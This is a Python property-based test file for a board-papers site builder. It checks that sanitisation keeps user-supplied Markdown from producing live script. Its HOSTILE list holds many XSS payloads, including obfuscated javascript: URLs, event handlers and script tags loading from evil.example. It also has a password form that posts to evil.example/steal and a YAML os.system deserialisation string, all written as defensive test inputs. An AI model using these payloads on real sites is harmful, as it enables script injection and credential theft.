"""Property: what `check` accepts, `build` builds, and nothing a paper says runs script (issue 17).

Hypothesis writes papers (front-matter and Markdown, with hostile pieces: raw HTML, scripts, event handlers,
script URLs, comments, CDATA, declarations, processing instructions, unclosed tags, backticks, link definitions,
tables, entities, NUL and control characters, long lines, deep nesting, invalid UTF-8 and the build's own island
markers) and meeting notes, PAPERS of them to a content folder. `check` must accept the folder or reject papers
with `path:line: field: message` lines naming a line of their file; what it accepts must build; and no built
page may carry a live element, event handler or script URL in its main content, an event handler anywhere, or a
script the theme did not write (test_markdown_corpus.audit_site, with Python's html.parser).

A fixed number of examples, derandomized: the same papers every run (about a second a build). A failing example
is reported as found, not shrunk (shrinking one build at a time took over five minutes); set
BOARDPAPERS_SHRINK=1 to shrink it.
"""

from __future__ import annotations

import os
import tempfile
from pathlib import Path

import yaml
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from test_markdown_corpus import audit_site, build_batch, plant

PAPERS = 6  # papers a build: one build an example
EXAMPLES = 25
PHASES = [Phase.explicit, Phase.generate] + ([Phase.shrink] if os.environ.get("BOARDPAPERS_SHRINK") == "1" else [])

# Pieces of Markdown that have broken, or could break, a parser, the sanitiser or the page around a paper.
HOSTILE = [
    # raw HTML, scripts, event handlers and the ids and classes the theme reads
    "<div>",
    "</div>",
    '<div markdown="1">*x*</div>',
    '<span id="__config">{}</span>',
    "<p>",
    "</p>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script",
    "</script>",
    "<style>body{display:none}</style>",
    "<img src=x onerror=alert(1)>",
    '<a onmouseover="alert(1)">a</a>',
    "<div onclick=alert(1)>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:x">',
    '<pre class="mermaid">graph TD</pre>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    # script URLs, in Markdown and HTML, plain and disguised
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#x09;script:alert(1))",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![i](data:text/html;base64,PHNjcmlwdD4=)",
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "[r]: javascript:alert(1)\n\n[x][r]",
    "<https://example.org/>",
    "<someone@example.org>",
    # comments, CDATA, declarations, processing instructions, unclosed and bogus tags
    "<!-- c -->",
    "<!--",
    "-->",
    "--!>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[",
    "<![",
    "<!",
    "<!x>",
    "<!DOCTYPE html>",
    "<?php echo 1 ?>",
    '<?xml version="1.0"?>',
    "<?",
    "<div",
    "<a href='",
    "<b>",
    "<table>",
    "</>",
    "</ x>",
    "obj<</>>endobj",
    "<![if x]>",
    "<![endif]>",
    # the build's own island markers
    "<!--bp:markdown-->",
    "<!--/bp:markdown-->",
    "<!--bp:markdown-->\n",
    "\n<!--/bp:markdown-->\n",
    "\n<!--/bp:markdown-->\n<script>alert(1)</script>\n<!--bp:markdown-->\n",
    # backticks and fences
    "`",
    "``",
    "`<![`",
    "```",
    "```js\n",
    "~~~",
    "    indented code",
    # links, references, cross-references and tables
    "[x]: https://example.org",
    "[x]",
    "[x][]",
    "[x](other-paper.md)",
    "[x](../2019-09-18/9.0-southern-police-station.md)",
    "[[2019-09-18#9.0]]",
    "[[2019-09-18#99]]",
    "[[nowhere]]",
    "Agenda item 1",
    "agenda item 77",
    "[TOC]",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "|",
    "Term\n:   definition",
    "!!! note\n    body",
    "# h",
    "h\n===",
    # entities
    "&amp;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#0;",
    "&#x0;",
    "&#xD800;",
    "&#1114112;",
    "&nosuch;",
    "&",
    "&#60;script&#62;",
    "&#x6A;avascript:",
    # NUL, control and odd characters (a lone surrogate is written as an invalid UTF-8 byte)
    "\x00",
    "\x01",
    "\x02",
    "\x03",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x7f",
    "\x85",
    "\u2028",
    "\ufeff",
    "\r",
    "\r\n",
    "\t",
    "\xa0",
    "\u202e",
    "\udcff",
    # very long lines and deep nesting
    "x" * 20000,
    "word " * 3000,
    "> " * 60 + "deep",
    "<div>" * 120 + "x" + "</div>" * 120,
    "*" * 80 + "x" + "*" * 80,
    "[" * 300,
    "(" * 300,
    "- " * 40 + "item",
    "\n".join("    " * i + "- level" for i in range(30)),
]
JOINERS = ["", " ", "\n", "\n\n", "\n    ", "\n> ", "\n- ", "\n1. ", "\n| "]

piece = st.one_of(st.sampled_from(HOSTILE), st.text(st.characters(exclude_categories=("Cs",)), max_size=20))
markdown_text = st.lists(st.tuples(st.sampled_from(JOINERS), piece), max_size=12).map(
    lambda parts: "".join(joiner + part for joiner, part in parts)
)
line_text = st.one_of(
    st.sampled_from([h for h in HOSTILE if len(h) < 200]),
    st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=30),
).filter(lambda text: "\n" not in text and text.strip() != "")  # what a text field holds


@st.composite
def front_matter(draw: st.DrawFn, item: str) -> dict[str, object]:
    """Valid paper fields, with hostile text in them (a secret or draft paper is valid, and withheld)."""
    fields: dict[str, object] = {
        "title": draw(line_text),
        "agenda_item": draw(st.sampled_from([item, item, None])),
        "from": draw(st.one_of(st.none(), line_text)),
        "classification": draw(st.sampled_from(["official"] * 5 + ["secret"])),
        "status": draw(st.sampled_from(["published"] * 5 + ["draft"])),
        "themes": draw(st.lists(st.sampled_from(["victims", "communities"]), max_size=2, unique=True)),
    }
    optional = {
        "summary": line_text,
        "public_title": line_text,
        "to": line_text,
        "recommendations": st.lists(line_text, max_size=3),
        "contact_officers": st.lists(
            st.fixed_dictionaries({"name": line_text}, optional={"role": line_text}), max_size=2
        ),
        "source_documents": st.lists(
            st.fixed_dictionaries(
                {"title": line_text},
                optional={
                    "url": st.sampled_from(
                        ["https://example.org/a?b=%3Cscript%3E&c=1#x", "http://example.org/javascript:alert(1)"]
                    )
                },
            ),
            max_size=2,
        ),
        "publish_on": st.sampled_from(["2019-01-01", "2099-01-01"]),
        "date": st.sampled_from(["2020-01-01", "2019-02-28"]),
    }
    for name in draw(st.lists(st.sampled_from(sorted(optional)), unique=True, max_size=4)):
        fields[name] = draw(optional[name])
    return fields


# Front-matter written wrong, one defect a paper: what YAML or the schema must reject (with a line), never crash on.
DEFECTS = [
    'title: "unclosed\n',
    "title: [a\n",
    "\ttitle: tab\n",
    "title: two\n",
    "nosuch: 1\n",
    "agenda_item: 5.1\n",
    "agenda_item: 5.1.x\n",
    "themes: victims\n",
    "themes: [nosuch]\n",
    "title: &a [*a]\n",
    "title: !!python/object:os.system x\n",
    ": no key\n",
    "title:\n  - a list\n",
    "contact_officers: [{role: x}]\n",
    "{\n",
    "---\n",
    "classification: public\n",
    "status: done\n",
    "date: not a date\n",
    "publish_on: 2019-02-30\n",
    'from: "a\\nb"\n',
    "title: ''\n",
    'source_documents: [{title: x, url: "javascript:alert(1)"}]\n',
    "date: 2020-01-01T10:00:00\n",
]


@st.composite
def paper_file(draw: st.DrawFn, index: int) -> str:
    """A paper file's text: front-matter (one in four with a defect) and a Markdown body."""
    fields = draw(front_matter(str(index + 1)))
    # allow_unicode=False: YAML escapes what it cannot hold (NUL, control characters) as \x00 and the like.
    yaml_text = "".join(yaml.safe_dump({k: v}, allow_unicode=False, width=10**6) for k, v in fields.items())
    defect = draw(st.integers(0, 3)) == 3  # Hypothesis starts from 0: its first, simplest example is valid
    if defect:
        yaml_text += draw(st.sampled_from(DEFECTS))
    text = f"---\n{yaml_text}---\n\n{draw(markdown_text)}\n"
    shape = draw(st.integers(0, 9))
    if shape == 7:
        text = text.replace("\n", "\r\n")
    elif shape == 8:
        text = "\ufeff" + text
    elif shape == 9 and defect:
        text = text.replace("---\n", "", 1)  # no front-matter at all
    return text


@st.composite
def content(draw: st.DrawFn) -> tuple[list[str], list[str]]:
    """PAPERS paper files and a meeting's notes (valid UTF-8: an invalid byte would reject the whole meeting)."""
    return [draw(paper_file(i)) for i in range(PAPERS)], [draw(markdown_text).replace("\udcff", "\xff")]


def check_then_build(papers: list[str], notes: list[str]) -> None:
    """The property: rejected with lines, or built; and the built site runs nothing from content."""
    with tempfile.TemporaryDirectory(prefix="bp-property-") as tmp:
        outcome = build_batch(plant(Path(tmp), [], papers=papers, notes=notes))
        assert len(outcome.built) + len(outcome.withheld) + len(outcome.rejected) == len(papers)
        audit_site(outcome.site)


@settings(
    max_examples=EXAMPLES,
    derandomize=True,
    deadline=None,
    database=None,
    phases=PHASES,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)
@given(content())
@example(
    (
        [
            f'---\ntitle: T\nagenda_item: "{i + 1}"\nfrom: null\nclassification: official\nstatus: published\n'
            f"---\n\n{body}\n"
            for i, body in enumerate(
                [
                    "A note: `<![` in code.",
                    "<![ ]]>",
                    "x <![foo[ y ]]> z",
                    "\n<!--/bp:markdown-->\n<script>alert(1)</script>",
                    "\x00",
                    "&#0; \udcff",
                ]
            )
        ],
        ["<![ notes"],
    )
)
def test_what_check_accepts_builds_and_runs_nothing(papers_and_notes: tuple[list[str], list[str]]) -> None:
    check_then_build(*papers_and_notes)


FORM = '<form action="https://evil.example/steal" method="post"><input name="password" type="password"></form>'


def test_a_paper_cannot_write_a_form() -> None:
    paper = '---\ntitle: T\nagenda_item: "1"\nfrom: null\nclassification: official\nstatus: published\n---\n\n'
    check_then_build([paper + f"Sign in again: {FORM}\n"], [])


def test_a_paper_cannot_close_its_island() -> None:
    paper = '---\ntitle: T\nagenda_item: "1"\nfrom: null\nclassification: official\nstatus: published\n---\n\n'
    with tempfile.TemporaryDirectory(prefix="bp-island-") as tmp:
        outcome = build_batch(
            plant(
                Path(tmp),
                [],
                papers=[
                    paper
                    + "Text.\n<!--/bp:markdown-->\n<b onmouseover=alert(1)>x</b> <a href='javascript:alert(1)'>y</a>\n"
                ],
                notes=["Notes.\n<!--/bp:markdown-->\n<i onclick=alert(2)>z</i>"],
            )
        )
        audit_site(outcome.site)


def test_a_lone_surrogate_in_front_matter_is_rejected() -> None:
    paper = (
        '---\ntitle: "A \\uDCFF title"\nagenda_item: "1"\nfrom: null\nclassification: official\n'
        "status: published\n---\n\nBody.\n"
    )
    with tempfile.TemporaryDirectory(prefix="bp-surrogate-") as tmp:
        outcome = build_batch(plant(Path(tmp), [], papers=[paper]))
    assert [line.partition(": ")[0] for line in outcome.rejected[0]] == ["content/meetings/2020-01-01/1-text.md:2"]
